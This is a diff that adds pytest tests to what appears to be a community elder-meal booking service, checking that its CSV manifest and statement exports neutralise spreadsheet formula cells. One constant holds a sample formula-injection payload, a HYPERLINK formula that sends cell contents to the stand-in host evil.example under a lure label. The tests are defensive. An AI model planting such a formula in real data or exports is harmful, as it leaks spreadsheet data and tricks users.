@@ -253,3 +253,52 @@ def test_unpromoted_waitlist_entries_end_when_the_meal_begins(client, m):
     assert reminders.mark_no_shows()["waitlist_expired"] == 1
     expired = db.session.get(MealBooking, waiting["id"])
     assert (expired.status, expired.cancel_reason) == ("cancelled", "候补未成功")
+
+
+# --- CSV exports: a cell a spreadsheet would run as a formula comes out as text -------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")'
+
+
+def csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    text = response.get_data(as_text=True)
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:], newline="")))
+
+
+def test_manifest_csv_neutralises_formula_cells(client, m):
+    diner = elder_at(m, 85, unit=m.world.units[0], name="@沈阿公")
+    made = book(client, diner, m, mode="delivery", diet_note=EVIL)
+    assert made.status_code == 201, made.json
+    m.set_meal.name = "+两荤一素套餐"
+    db.session.commit()
+    rows = csv_rows(client.get(f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}&format=csv",
+                               headers=auth(m.operator)))
+    cells = [value for row in rows for value in row]
+    assert "'" + EVIL in cells                      # the special diet row and the delivery row
+    assert EVIL not in cells
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
+    assert "'+两荤一素套餐" in cells and "'@***" in cells
+    delivery = next(row for row in rows if row[2] == "delivery")
+    assert delivery[-1] == "'" + EVIL
+
+
+def test_statement_csvs_neutralise_formula_cells(client, m, known):
+    made, users = known
+    clock.set_now(datetime(2026, 11, 23, 11, 30, tzinfo=SHANGHAI))
+    for key in ("a", "e"):
+        assert client.post(f"/api/v1/meal-sites/{m.site.id}/serve", json={"code": made[key]["code"]},
+                           headers=auth(m.operator)).status_code == 200
+    m.site.name = EVIL
+    m.world.street.name = "-万里街道"
+    db.session.commit()
+    site_rows = csv_rows(client.get(f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-11&format=csv",
+                                    headers=auth(m.operator)))
+    assert [row[0] for row in site_rows[1:]] == ["'" + EVIL] * (len(site_rows) - 1)
+    street_rows = csv_rows(client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11"
+                                      "&format=csv", headers=auth(m.admin)))
+    assert {row[0] for row in street_rows[1:]} == {"'-万里街道"}
+    assert street_rows[1][2] == "'" + EVIL
+    for rows in (site_rows, street_rows):
+        assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
